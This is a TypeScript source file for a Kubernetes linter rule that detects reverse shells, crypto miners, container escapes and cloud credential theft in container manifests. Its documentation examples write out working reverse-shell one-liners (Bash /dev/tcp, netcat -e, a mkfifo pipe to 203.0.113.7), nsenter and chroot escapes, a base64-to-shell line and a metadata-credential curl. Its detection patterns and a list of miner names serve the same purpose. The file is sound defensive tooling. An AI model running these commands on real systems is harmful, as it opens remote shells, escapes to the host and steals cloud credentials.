import { defineRule } from '../../engine/rule.ts';
import { type Command, hasShortOption, partOf, SHELLS, type Word } from '../../k8s/command.ts';
import type { ContainerView } from '../../k8s/container.ts';
import { judgeNodeAgent, NODE_AGENT_OPTIONS } from '../../k8s/node-agent.ts';

export default defineRule({
  id: 'suspicious-command',
  title: 'Reverse shell, miner or escape in a command',
  category: 'workload',
  severity: 'critical',
  preset: 'recommended',
  on: 'container',
  messages: { idiom: 'container "{name}" {idiom}{note}' },
  options: NODE_AGENT_OPTIONS,
  check(container, context) {
    const { commands } = container;
    if (commands.length === 0) return;
    for (const { idiom, first, last, leaves } of idiomsOf(container)) {
      // A node agent has reason to step into the node; nobody has reason to mine.
      const judged = leaves
        ? judgeNodeAgent('high', container, context.options)
        : { severity: 'critical' as const, note: '' };
      if (judged === undefined) continue;
      const part = partOf(first, last);
      context.report(first.node, 'idiom', {
        data: { name: container.name, idiom, note: judged.note },
        severity: judged.severity,
        ...(part === undefined ? {} : { part }),
      });
    }
  },
  docs: {
    why: 'These are the lines by which attackers work: a shell handed to another machine, coins mined on foreign nodes, a step into the namespaces or the root of the host, the credentials of the machine fetched from the cloud. Hardly any honest workload has them.',
    fix: 'Find out who wrote it. Where it is meant, do it by a node agent that is known to be one, with the narrowest access, or by the means of the platform.',
    frameworks: { mitre: ['T1609', 'T1496', 'T1611', 'T1552.005'] },
    equivalents: { kubescape: ['C-0052'] },
    cks: 'Monitoring, Logging and Runtime Security',
    references: ['https://attack.mitre.org/matrices/enterprise/containers/'],
    limits: 'Looks at the manifest alone: a script in the image or in a ConfigMap is not read.',
    examples: {
      bad: [
        {
          title: 'a reverse shell of Bash',
          in: 'container',
          yaml: 'command:\n  - bash\n  - -c\n  - bash -i >& /dev/tcp/203.0.113.7/443 0>&1 # finding',
        },
        {
          title: 'a reverse shell of netcat',
          in: 'container',
          yaml: 'command:\n  - nc # finding\n  - -e\n  - /bin/sh\n  - 203.0.113.7\n  - "443"',
        },
        {
          title: 'netcat behind a pipe',
          in: 'container',
          yaml: 'command:\n  - sh\n  - -c\n  - mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f # finding',
        },
        {
          title: 'a miner',
          in: 'container',
          yaml: 'args:\n  - --url\n  - stratum+tcp://pool.example.com:3333 # finding',
        },
        {
          title: 'into the namespaces of the node',
          in: 'container',
          yaml: 'command:\n  - nsenter # finding\n  - --target\n  - "1"\n  - --mount\n  - --\n  - bash',
        },
        { title: 'into the root of the node', in: 'container', yaml: 'command:\n  - chroot # finding\n  - /host' },
        {
          title: 'something that does not want to be read',
          in: 'container',
          yaml: 'command:\n  - sh\n  - -c\n  - echo ZWNobwo= | base64 -d | sh # finding',
        },
        {
          title: 'credentials of the machine',
          in: 'container',
          yaml: 'command:\n  - curl\n  - http://169.254.169.254/latest/meta-data/iam/security-credentials/ # finding',
        },
      ],
      good: [
        {
          title: 'waiting for a port',
          in: 'container',
          yaml: 'command: [bash, -c, "until </dev/tcp/db/5432; do sleep 1; done"]',
        },
        { title: 'asking whether a port is open', in: 'container', yaml: 'command: [nc, -z, db, "5432"]' },
        { title: 'a folder of its own', in: 'container', yaml: 'command: [chroot, /srv/jail, app]' },
        {
          title: 'decoding to a file',
          in: 'container',
          yaml: 'command: [sh, -c, "echo $CERT | base64 -d > /tmp/cert.pem"]',
        },
      ],
    },
  },
});

interface Idiom {
  readonly idiom: string;
  readonly first: Word;
  readonly last: Word;
  /** Steps out of the container, which agents of a node may have reason to do. */
  readonly leaves: boolean;
}

const MINERS: ReadonlySet<string> = new Set([
  'xmrig',
  'minerd',
  'cpuminer',
  'ccminer',
  'ethminer',
  'xmr-stak',
  'nbminer',
  't-rex',
]);
const INTERPRETERS = /^(?:python|perl|ruby|php|lua)[\d.]*$/;
const HOST_ROOT = /^\/(?:host|rootfs|mnt\/host|hostfs|host-root|hostroot|node|mnt\/root)\/?$/;
const CLOUD_CREDENTIALS =
  /169\.254\.169\.254\/(?:latest\/(?:meta-data\/iam|api\/token)|computeMetadata|metadata\/identity)|metadata\.google\.internal\/computeMetadata\/v1\/instance\/service-accounts/;

function idiomsOf(container: ContainerView): readonly Idiom[] {
  const found: Idiom[] = [];
  const add = (idiom: string, first: Word, last: Word = first, leaves = false): void => {
    // One fault in one place: a vector and the script in it show the same words.
    if (!found.some((each) => each.idiom === idiom)) found.push({ idiom, first, last, leaves });
  };
  const { commands } = container;
  for (const command of commands) {
    const { program, words } = command;
    const first = words[0];
    if (first === undefined) continue;
    const last = words.at(-1)!;
    // The vector around a script holds the script as one word; the script is looked at by itself.
    if (!command.shell && SHELLS.has(program) && commands.length > 1 && hasShortOption(command, 'c')) continue;
    switch (program) {
      case 'nc':
      case 'ncat':
      case 'netcat':
        if (handsOutShell(command)) add('hands a shell to the network with ' + program, first, last);
        else if (pipesFromShell(command, commands)) add('hands a shell to the network through a pipe', first, last);
        break;
      case 'socat':
        if (words.some(({ text }) => /exec:/i.test(text)))
          add('hands a program to the network with socat', first, last);
        break;
      case 'nsenter':
        if (entersInit(words)) add('enters the namespaces of the node with nsenter', first, last, true);
        break;
      case 'chroot':
        if (words.some(({ text }) => HOST_ROOT.test(text)))
          add(`changes its root to that of the node (${words[1]?.text})`, first, last, true);
        break;
      case 'base64':
        if (decodes(command) && command.pipedTo !== undefined && SHELLS.has(command.pipedTo.program)) {
          add('runs a script that was hidden in base64', first, last);
        }
        break;
      default:
        if (MINERS.has(program)) add(`runs the miner ${program}`, first, last);
        else if (SHELLS.has(program) && isReverseShell(command))
          add('hands a shell to the network through /dev/tcp', first, last);
        else if (INTERPRETERS.test(program) && words.some(({ text }) => opensShell(text))) {
          add(`hands a shell to the network with ${program}`, first, last);
        }
    }
    for (const word of words) {
      const { text } = word;
      if (text.length < 20 || !(text.includes('://') || text.includes('169.254.'))) continue;
      if (/stratum\+(?:tcp|ssl|udp):\/\//.test(text)) add('connects to a mining pool', word);
      else if (CLOUD_CREDENTIALS.test(text)) add("fetches the machine's credentials from the cloud", word, word, true);
    }
    for (const word of command.writes) {
      if (/^\/(?:host\/)?proc\/sys\/kernel\/core_pattern$|\/release_agent$/.test(word.text)) {
        add(`writes ${word.text}, which the kernel runs on the node`, word, word, true);
      }
    }
  }
  return found;
}

function handsOutShell({ words }: Command): boolean {
  return words.some(
    ({ text }, index) => /^-[A-Za-z]*[ec]$/.test(text) && /^\/|^(?:ba|da|a|z)?sh$/.test(words[index + 1]?.text ?? ''),
  );
}

function pipesFromShell(netcat: Command, commands: readonly Command[]): boolean {
  return commands.some((command) => command.pipedTo === netcat && SHELLS.has(command.program));
}

function entersInit(words: readonly Word[]): boolean {
  return words.some(({ text }, index) => {
    if (/^(?:-t1|--target=1)$/.test(text)) return true;
    return (/^-[a-zA-Z]*t$/.test(text) || text === '--target') && words[index + 1]?.text === '1';
  });
}

function decodes(command: Command): boolean {
  return command.words.some(({ text }) => text === '-d' || text === '-D' || text === '--decode');
}

function isReverseShell({ words, writes }: Command): boolean {
  return (
    words.some(({ text }) => /^-[a-z]*i/.test(text)) &&
    writes.some(({ text }) => /^\/dev\/(?:tcp|udp)\/[^/]+\/\d+$/.test(text))
  );
}

function opensShell(text: string): boolean {
  return /socket/i.test(text) && /dup2|\/bin\/(?:ba)?sh|pty\.spawn/.test(text);
}
